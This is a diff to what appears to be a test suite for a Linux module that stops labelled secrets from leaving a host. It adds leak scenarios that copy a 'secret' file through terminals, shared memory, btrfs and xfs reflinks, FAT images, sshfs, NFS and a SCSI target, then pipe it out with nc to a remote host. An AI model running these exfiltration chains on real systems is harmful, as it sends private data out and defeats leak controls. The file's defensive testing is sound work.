@@ -159,6 +159,38 @@ with socket.create_connection(("10.77.0.2", 9)) as way:
 
 DISK = "modprobe brd rd_nr=1 rd_size=8192; mke2fs -q /dev/ram0; mkdir disk; mount /dev/ram0 disk; "
 
+# A file system over SFTP. The other host sends on what it got.
+SFTP_SERVER = """
+import socket, subprocess
+with socket.create_server(("10.77.0.2", 22)) as server:
+    open("serves", "w").close()
+    connection = server.accept()[0]
+    subprocess.run(["sftp-server"], stdin=connection, stdout=connection)
+with open("there/copy", "rb") as file, socket.create_connection(("10.77.0.2", 9)) as way:
+    way.sendall(file.read())
+"""
+# serve HOST: exports the folder `there` by the kernel's NFS server, on this host or the other one.
+NFS_SERVER = """
+cat >serve.sh <<'END'
+[[ -e /proc/fs/nfsd/threads ]] || mount -t nfsd nfsd /proc/fs/nfsd
+mkdir -p /run/rpc_pipefs /var/lib/nfs/nfsdcld
+[[ -e /run/rpc_pipefs/nfsd ]] || mount -t rpc_pipefs rpc_pipefs /run/rpc_pipefs
+touch /etc/exports /var/lib/nfs/etab /var/lib/nfs/rmtab
+# Without it a server waits for a minute and a half before it takes writes.
+nfsdcld -p /run/rpc_pipefs
+rpc.mountd -N 3
+exportfs -o rw,no_root_squash,insecure,fsid=0,no_subtree_check "*:$PWD/there"
+rpc.nfsd -N 3 -N 4.0 -U 1
+END
+modprobe -a nfsd nfsv4
+mkdir there tree
+"""
+
+
+def on_image(kind, size, options=""):
+    """A shell script that mounts an image with this file system at `disk`."""
+    return f"truncate -s {size}M image; modprobe loop max_part=4; modprobe {kind}; mkfs.{kind} {options} image >/dev/null; mkdir disk; mount -t {kind} -o loop image disk; "
+
 
 def multipath(client, server):
     return snippet(MULTIPATH.format(protocols=(client, server)))
@@ -178,6 +210,29 @@ def scripts():
         "memory-file-of-parent": snippet(MEMORY_FILE),
         "event-of-scanner": snippet(EVENT_OF_SCANNER.format(get="os.read(fd, 100)")),
         "event-of-scanner-mapped": snippet(EVENT_OF_SCANNER.format(get="mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ)[:]")),
+        # Whoever reads a terminal and is no window.
+        "own-terminal": "way terminal secret",
+        "terminal-of-another": "script -qc 'cat secret' /dev/null < /dev/null | nc remote 9",
+        "file-of-terminal": "script -qc 'cat secret' shown < /dev/null > /dev/null; nc remote 9 < shown",
+        # Memory that processes share.
+        **{way: f"way {way} secret" for way in
+           ("shared-anonymous", "shared-sysv", "shared-sysv-late", "shared-posix", "shared-memory-file", "shared-memory-file-read", "shared-memory-file-privately",
+            "shared-passed", "shared-watched", "shared-with-threads",
+            "child-in-same-memory", "parent-in-same-memory")},
+        # File systems that share blocks, and those that take no label.
+        "btrfs-snapshot": on_image("btrfs", 128) + "btrfs -q subvolume create disk/one; cp secret disk/one/copy; "
+                          "btrfs -q subvolume snapshot disk/one disk/two; nc remote 9 < disk/two/copy; umount disk",
+        "btrfs-reflink": on_image("btrfs", 128) + "cp secret disk/copy; cp --reflink=always disk/copy disk/other; nc remote 9 < disk/other; "
+                         "umount disk",
+        "xfs-reflink": on_image("xfs", 320) + "cp secret disk/copy; cp --reflink=always disk/copy disk/other; nc remote 9 < disk/other; "
+                       "umount disk",
+        "fat-stick": on_image("vfat", 8) + "cp secret disk/copy; umount disk; grep -a -m 1 Sphinx image | nc remote 9",
+        "exfat-stick": on_image("exfat", 8) + "cp secret disk/copy; umount disk; grep -a -m 1 Sphinx image | nc remote 9",
+        "sshfs": f"cat >serve.py <<'END'{SFTP_SERVER}END\nmkdir there tree; remote-exec python3 -I serve.py & "
+                 "until [[ -e serves ]]; do sleep 0.02; done; "
+                 "sshfs -o directport=22 10.77.0.2:$PWD/there tree; cp secret tree/copy; umount tree; wait",
+        "nfs-mount": NFS_SERVER + "remote-exec bash serve.sh; mount -t nfs4 -o vers=4.2,addr=10.77.0.2,clientaddr=10.77.0.1 10.77.0.2:/ tree; "
+                     "cp secret tree/copy; umount tree; remote-exec nc remote 9 < there/copy",
         # A disk that comes again. Nobody tells the module of the file.
         "disk-that-comes-again": DISK + "cp secret disk/copy; umount disk; mount /dev/ram0 disk; nc remote 9 < disk/copy; umount disk",
         "linked-where-none-looks": DISK + "cp secret disk/copy; ln disk/copy disk/other; umount disk; mount /dev/ram0 disk; mv disk/other "
@@ -203,6 +258,18 @@ REFUSED = [
          "losetup -d /dev/loop7"),
     Leak("command-to-disk", "modprobe sd_mod; modprobe scsi_debug dev_size_mb=8; until [[ -e /sys/block/sda ]]; do sleep 0.1; done\n"
          + snippet(COMMAND), passes=b"nothing"),
+    Leak("kernel-nfs-server", NFS_SERVER + "bash serve.sh; cp secret there/copy; "
+         "remote-exec bash -c 'mount -t nfs4 -o vers=4.2,addr=10.77.0.1,clientaddr=10.77.0.2 10.77.0.1:/ tree && "
+         "dd if=tree/copy | nc 10.77.0.2 9; umount tree'; rpc.nfsd 0"),
+    Leak("scsi-target", "cp secret image; truncate -s 1M image; modprobe -a target_core_file tcm_loop sd_mod; "
+         "mount -t configfs none /sys/kernel/config 2>/dev/null\n"
+         "target=/sys/kernel/config/target; mkdir -p $target/core/fileio_0/disk $target/loopback/naa.6001405000000001/tpgt_1/lun/lun_0\n"
+         "echo fd_dev_name=$PWD/image,fd_dev_size=1048576 > $target/core/fileio_0/disk/control; echo 1 > $target/core/fileio_0/disk/enable\n"
+         "echo naa.6001405000000002 > $target/loopback/naa.6001405000000001/tpgt_1/nexus\n"
+         "ln -s $target/core/fileio_0/disk $target/loopback/naa.6001405000000001/tpgt_1/lun/lun_0/link\n"
+         "sleep 1; disk=$(grep -l FILEIO /sys/block/sd*/device/model | cut -d/ -f4); head -c 55 /dev/$disk | nc remote 9\n"
+         "cd $target/loopback/naa.6001405000000001; rm tpgt_1/lun/lun_0/link; rmdir tpgt_1/lun/lun_0 tpgt_1 .; cd ../../core; "
+         "rmdir fileio_0/disk fileio_0", passes=rb"\0*"),
     Leak("key-updated", snippet(KEY), passes=b"x"),
     Leak("key-updated-by-odd-number", snippet(KEY.replace("syscall(250, 2, key, data", "syscall(250, ctypes.c_long(2 + (1 << 32)), key, data")),
          passes=b"x"),
